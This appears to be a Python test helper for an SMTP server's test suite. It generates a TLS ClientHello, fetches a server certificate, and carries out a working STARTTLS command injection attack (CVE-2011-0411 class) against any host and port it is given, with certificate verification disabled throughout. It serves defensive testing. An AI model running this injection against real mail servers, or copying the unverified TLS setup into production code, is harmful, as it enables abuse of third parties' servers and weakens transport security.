#!/usr/bin/env python3
"""TLS odds and ends for tests/real_clients.rs, with Python's ssl (OpenSSL).

  tls_probe.py clienthello
      Prints, in hex, a real ClientHello as OpenSSL makes it for
      mx.example.com (no network involved). It always holds LF bytes (the
      supported_groups extension is type 0x000a), so sent to a plaintext
      SMTP port its first bytes make a command line; that line always
      holds the handshake length 0x01fc, which is not UTF-8.

  tls_probe.py inject HOST PORT
      The STARTTLS injection attack (CVE-2011-0411 class): sends
      "STARTTLS" and "MAIL FROM" in one packet, completes the TLS handshake,
      then sends RCPT TO, which a server that executed the injected MAIL
      would accept. Prints the replies as JSON.

  tls_probe.py peercert HOST PORT
      Connects with implicit TLS and prints the server certificate (DER, hex).

Certificates are never verified.
"""

import json
import socket
import ssl
import sys


def context():
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context().wrap_bio(incoming, outgoing, server_hostname="mx.example.com")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class Lines:
    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def reply(self):
        lines = []
        while True:
            while b"\r\n" not in self.buf:
                chunk = self.sock.recv(4096)
                if not chunk:
                    raise SystemExit("connection closed; got %r" % self.buf)
                self.buf += chunk
            line, self.buf = self.buf.split(b"\r\n", 1)
            lines.append(line.decode("utf-8", "replace"))
            if line[3:4] != b"-":
                return "\n".join(lines)


def inject(host, port):
    injected = b"MAIL FROM:<attacker@injection.example>\r\n"
    sock = socket.create_connection((host, port), timeout=20)
    r = Lines(sock)
    out = {"greeting": r.reply()}
    sock.sendall(b"EHLO injector.example\r\n")
    out["ehlo"] = r.reply()
    # One send(): the plaintext MAIL rides in the same segment as STARTTLS.
    sock.sendall(b"STARTTLS\r\n" + injected)
    out["starttls"] = r.reply()
    if r.buf:
        out["extra_plaintext_replies"] = r.buf.decode("utf-8", "replace")
    tls = context().wrap_socket(sock, server_hostname="mx.example.com")
    r = Lines(tls)
    tls.sendall(b"EHLO injector.example\r\n")
    out["ehlo_tls"] = r.reply()
    tls.sendall(b"RCPT TO:<victim@example.net>\r\n")
    out["rcpt"] = r.reply()
    tls.sendall(b"QUIT\r\n")
    out["quit"] = r.reply()
    out["injected"] = injected.decode()
    tls.close()
    print(json.dumps(out))


def peer_cert(host, port):
    sock = socket.create_connection((host, port), timeout=20)
    tls = context().wrap_socket(sock, server_hostname="mx.example.com")
    print(tls.getpeercert(binary_form=True).hex())
    tls.close()


def main():
    what = sys.argv[1]
    if what == "clienthello":
        print(client_hello().hex())
    elif what == "inject":
        inject(sys.argv[2], int(sys.argv[3]))
    elif what == "peercert":
        peer_cert(sys.argv[2], int(sys.argv[3]))
    else:
        raise SystemExit("unknown command " + what)


if __name__ == "__main__":
    main()
